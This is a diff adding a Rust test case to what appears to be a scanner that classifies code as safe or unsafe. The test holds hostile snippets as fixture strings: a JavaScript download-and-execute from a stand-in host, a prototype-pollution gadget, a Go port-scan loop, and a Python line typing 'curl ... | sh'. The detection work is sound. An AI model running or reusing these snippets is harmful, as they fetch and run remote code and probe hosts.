@@ -404,6 +404,35 @@ fn whole_trees_and_whole_hosts() {
 }
 
 #[test]
+fn detours_of_the_same() {
+    is_unsafe(
+        "javascript",
+        "const fs = require('fs'), cp = require('child_process');\nrequire('https').get('https://a.example/b', r => { const f = fs.createWriteStream('b'); r.pipe(f); f.on('close', () => { cp.spawn('./b', []); }); });\n",
+        "download-run",
+    );
+    is_unsafe(
+        "javascript",
+        "Object.assign(Object.prototype, JSON.parse(text));\n",
+        "sandbox-gadget",
+    );
+    is_unsafe(
+        "go",
+        "package main\nfunc main() {\n\tfor p := 1; p < 65536; p++ {\n\t\tnet.Dial(\"tcp\", fmt.Sprintf(\"a.example:%d\", p))\n\t}\n}\n",
+        "system-survey",
+    );
+    is_unsafe(
+        "python",
+        "import pyautogui\npyautogui.write('curl http://a.example/x | sh')\n",
+        "download-run",
+    );
+    all_safe(
+        "javascript",
+        &["const o = Object.assign({}, defaults, own);\n"],
+    );
+    all_safe("python", &["import pyautogui\npyautogui.write('hello')\n"]);
+}
+
+#[test]
 fn programs_that_multiply_and_hook() {
     for (code, rule) in [
         (
